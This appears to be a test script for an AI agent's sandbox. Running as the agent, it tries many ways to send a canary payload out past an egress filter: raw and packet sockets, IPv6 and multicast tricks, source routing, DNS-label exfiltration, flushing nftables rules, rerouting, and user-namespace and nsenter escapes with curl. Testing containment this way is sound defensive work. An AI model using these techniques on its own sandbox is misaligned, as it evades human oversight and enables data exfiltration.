"""Runs as the agent and tries every way out it can think of. One line a try: NAME OUTCOME.

Nothing here checks anything: the sniffer at the other end does. Usage: attack.py PEER4 PEER6 GROUP...
"""
import ctypes
import os
import socket
import struct
import subprocess
import sys

PEER4, PEER6 = sys.argv[1:3]
GROUPS = sys.argv[3:]
CANARY = b"CANARY"
TRIES = []


def attempt(group):
    def add(function):
        TRIES.append((group, function.__name__, function))
        return function

    return add


def datagram(family, to, protocol=0):
    with socket.socket(family, socket.SOCK_DGRAM, protocol) as s:
        s.settimeout(1)
        s.sendto(CANARY, to)


def stream(family, to, protocol=0):
    with socket.socket(family, socket.SOCK_STREAM, protocol) as s:
        s.settimeout(2)
        s.connect(to)
        s.sendall(CANARY)


def query(name):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + b"\x00\x00\x01\x00\x01"


def command(*words):
    done = subprocess.run(words, capture_output=True, timeout=5, stdin=subprocess.DEVNULL)
    if done.returncode != 0:
        raise OSError((done.stderr or done.stdout).decode(errors="replace").strip().splitlines()[-1:] or "failed")


V4, V6 = socket.AF_INET, socket.AF_INET6

for port in (22, 53, 80, 443, 853, 3128, 8080):
    attempt("v4")(type("f", (), {"__name__": f"tcp4_{port}", "__call__": lambda s, p=port: stream(V4, ("1.2.3.4", p))})())
    attempt("v6")(type("f", (), {"__name__": f"tcp6_{port}", "__call__": lambda s, p=port: stream(V6, ("2606:4700::1111", p))})())
for label, to in {"mapped": "::ffff:1.2.3.4", "gateway": PEER6, "unique_local": "fd00:99::9"}.items():
    attempt("v6")(type("f", (), {"__name__": f"tcp6_{label}", "__call__": lambda s, a=to: stream(V6, (a, 80))})())
    attempt("v6")(type("f", (), {"__name__": f"udp6_{label}", "__call__": lambda s, a=to: datagram(V6, (a, 53))})())


@attempt("v6")
def link_local():
    index = socket.if_nametoindex("eth0")
    with socket.socket(V6, socket.SOCK_DGRAM) as s:
        s.sendto(CANARY, ("fe80::1", 9999, 0, index))


@attempt("v6")
def all_nodes():
    index = socket.if_nametoindex("eth0")
    with socket.socket(V6, socket.SOCK_DGRAM) as s:
        s.sendto(CANARY, ("ff02::1", 9999, 0, index))


@attempt("v6")
def ping6():
    with socket.socket(V6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6) as s:
        s.sendto(b"\x80\x00\x00\x00\x00\x01\x00\x01" + CANARY, ("2606:4700::1111", 0))


for label, to in {"nat64": "64:ff9b::1.2.3.4", "6to4": "2002:102:304::1", "site_local": "fec0::1"}.items():
    attempt("v6")(type("f", (), {"__name__": f"udp6_{label}", "__call__": lambda s, a=to: datagram(V6, (a, 53))})())
for label, to in {"all_routers": "ff02::2", "site_multicast": "ff05::2", "interface_local": "ff01::1", "global_multicast": "ff0e::1"}.items():
    attempt("v6")(type("f", (), {"__name__": label, "__call__": lambda s, a=to: datagram(V6, (a, 9999, 0, socket.if_nametoindex("eth0")))})())


@attempt("v6")
def link_local_stream():
    stream(V6, ("fe80::1", 80, 0, socket.if_nametoindex("eth0")))


@attempt("v6")
def mapped_datagram_to_the_allowed_host():
    datagram(V6, ("::ffff:" + PEER4, 3128))


@attempt("v6")
def mapped_other_port():
    stream(V6, ("::ffff:" + PEER4, 81))


@attempt("v6")
def join_a_group():
    with socket.socket(V6, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, socket.inet_pton(V6, "ff02::1:3") + struct.pack("i", socket.if_nametoindex("eth0")))


@attempt("v6")
def fast_open6():
    with socket.socket(V6, socket.SOCK_STREAM) as s:
        s.sendto(CANARY, 0x20000000, ("2606:4700::1111", 443))


@attempt("other")
def through_the_loopback_device():
    with socket.socket(V4, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lo\0")
        s.sendto(CANARY, ("1.2.3.4", 53))


@attempt("v4")
def loopback_address_over_the_wire():
    with socket.socket(V4, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0\0")
        s.sendto(CANARY, ("127.0.0.5", 53))


@attempt("v4")
def source_address_of_the_peer():
    with socket.socket(V4, socket.SOCK_DGRAM) as s:
        s.sendmsg([CANARY], [(socket.IPPROTO_IP, 8, struct.pack("I4s4s", 0, socket.inet_aton(PEER4), b"\0" * 4))], 0, ("1.2.3.4", 53))


@attempt("v4")
def source_route():
    with socket.socket(V4, socket.SOCK_STREAM) as s:
        s.settimeout(1)
        s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\x83\x07\x04" + socket.inet_aton("10.99.0.3") + b"\0")
        s.connect(("1.2.3.4", 80))


@attempt("v4")
def sibling():
    stream(V4, ("10.99.0.3", 3128))


@attempt("v4")
def other_port_of_the_allowed_host():
    stream(V4, (PEER4, 81))


@attempt("other")
def ping4():
    with socket.socket(V4, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
        s.sendto(b"\x08\x00\x00\x00\x00\x01\x00\x01" + CANARY * 8, ("1.2.3.4", 0))


@attempt("other")
def udp_allowed_port():
    datagram(V4, (PEER4, 3128))


@attempt("other")
def fragments():
    with socket.socket(V4, socket.SOCK_DGRAM) as s:
        s.sendto(CANARY * 9000, (PEER4, 3128))


@attempt("other")
def multipath_tcp():
    stream(V4, ("1.2.3.4", 80), 262)


@attempt("other")
def limited_broadcast():
    with socket.socket(V4, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0\0")
        s.sendto(CANARY, ("255.255.255.255", 67))


@attempt("other")
def quic():
    datagram(V4, ("1.2.3.4", 443))


@attempt("other")
def udp_lite():
    datagram(V4, (PEER4, 3128), 136)


@attempt("other")
def sctp():
    stream(V4, (PEER4, 3128), socket.IPPROTO_SCTP)


@attempt("other")
def dccp():
    with socket.socket(V4, 6, 33) as s:
        s.settimeout(1)
        s.connect((PEER4, 3128))


for number in (1, 4, 41, 47, 132, 253):
    def raw(n=number):
        with socket.socket(V4, socket.SOCK_RAW, n) as s:
            s.sendto(CANARY * 4, (PEER4, 0))

    raw.__name__ = f"raw_{number}"
    attempt("other")(raw)


@attempt("other")
def packet_socket():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as s:
        s.bind(("eth0", 0))
        s.send(b"\xff" * 6 + b"\x02" * 6 + b"\x88\xb5" + CANARY)


@attempt("other")
def vsock():
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as s:
        s.settimeout(1)
        s.connect((2, 9999))


@attempt("other")
def multicast():
    with socket.socket(V4, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton("239.1.2.3") + socket.inet_aton("0.0.0.0"))
        s.sendto(CANARY, ("239.1.2.3", 9999))


@attempt("other")
def broadcast():
    with socket.socket(V4, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.sendto(CANARY, ("10.99.0.255", 9999))


@attempt("other")
def fast_open():
    with socket.socket(V4, socket.SOCK_STREAM) as s:
        s.sendto(CANARY, 0x20000000, ("1.2.3.4", 443))


@attempt("other")
def route_change():
    command("ip", "route", "replace", "default", "via", "10.99.0.3")


@attempt("other")
def rule_change():
    command("nft", "flush", "ruleset")


def open_any(family):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        try:
            return socket.socket(family, kind).close()
        except OSError as error:
            refused = error
    raise refused


# A family the filter lets through would go past the packet rules, so opening one is as bad as sending.
for name, family in {"ieee802154": 36, "bluetooth": 31, "can": 29, "tipc": 30, "smc": 43, "rds": 21, "xdp": 44, "qrtr": 42, "x25": 9, "llc": 26, "ax25": 3, "appletalk": 5, "ipx": 4, "packet": 17, "key": 15, "alg": 38}.items():
    attempt("families")(type("f", (), {"__name__": f"family_{name}", "__call__": lambda s, f=family: open_any(f)})())


@attempt("families")
def io_uring():
    if ctypes.CDLL(None, use_errno=True).syscall(425, 8, ctypes.create_string_buffer(248)) < 0:
        raise OSError(ctypes.get_errno(), "refused")


# Root of a user namespace of its own: everything in a network namespace of its own, nothing in ours.
OURS = f"/proc/{os.getpid()}/ns/net"
for name, words in {
    "flush": ("-Ur", "nft flush ruleset"),
    "add_a_rule": ("-Ur", "nft add table inet x"),
    "delete_the_table": ("-Ur", "nft delete table inet ax_egress"),
    "route": ("-Ur", "ip route replace default via 10.99.0.3"),
    "link_down": ("-Ur", "ip link set eth0 down"),
    "raw_socket": ("-Ur", "ping -c1 -W1 1.2.3.4"),
    "cable_to_ours": ("-Urn", f"ip link add v0 type veth peer name v1 netns {os.getpid()}"),
    "rules_inside_then_out": ("-Urn", "nft add table inet x; ip link set lo up; curl -sm1 http://1.2.3.4/"),
    "back_to_ours": ("-Urn", f"nsenter --net={OURS} curl -sm1 http://1.2.3.4/"),
}.items():
    attempt("namespaces")(type("f", (), {"__name__": f"namespace_{name}", "__call__": lambda s, w=words: command("unshare", w[0], "sh", "-c", w[1])})())


for server in ("8.8.8.8", PEER4, "127.0.0.11", "10.99.0.3"):
    attempt("dns")(type("f", (), {"__name__": f"udp53_{server}", "__call__": lambda s, a=server: datagram_dns(a, 53)})())
    attempt("dns")(type("f", (), {"__name__": f"tcp53_{server}", "__call__": lambda s, a=server: stream(V4, (a, 53))})())
    attempt("dns")(type("f", (), {"__name__": f"tls853_{server}", "__call__": lambda s, a=server: stream(V4, (a, 853))})())
for label, family, to in (("mdns", V4, "224.0.0.251"), ("llmnr", V4, "224.0.0.252"), ("mdns6", V6, "ff02::fb"), ("llmnr6", V6, "ff02::1:3")):
    port = 5355 if "llmnr" in label else 5353
    attempt("dns")(type("f", (), {"__name__": label, "__call__": lambda s, f=family, a=to, p=port: datagram(f, (a, p))})())
for kind in ("A", "TXT", "AAAA", "HTTPS", "PTR"):
    attempt("dns")(type("f", (), {"__name__": f"dig_{kind}", "__call__": lambda s, k=kind: command("dig", "+time=1", "+tries=1", f"CANARY{k}.x.test", k)})())
for words in (("getent", "hosts", "CANARY.x.test"), ("ping", "-c1", "-W1", "CANARY.x.test"), ("curl", "-sm3", "http://CANARY.x.test/")):
    attempt("dns")(type("f", (), {"__name__": words[0] + "_name", "__call__": lambda s, w=words: command(*w)})())


def datagram_dns(server, port):
    with socket.socket(V4, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        s.sendto(query("CANARY.x.test"), (server, port))


for group, name, function in TRIES:
    if group in GROUPS:
        try:
            function()
            print(name, "SENT")
        except (OSError, subprocess.TimeoutExpired, AttributeError, ValueError) as error:
            print(name, "refused:", error)
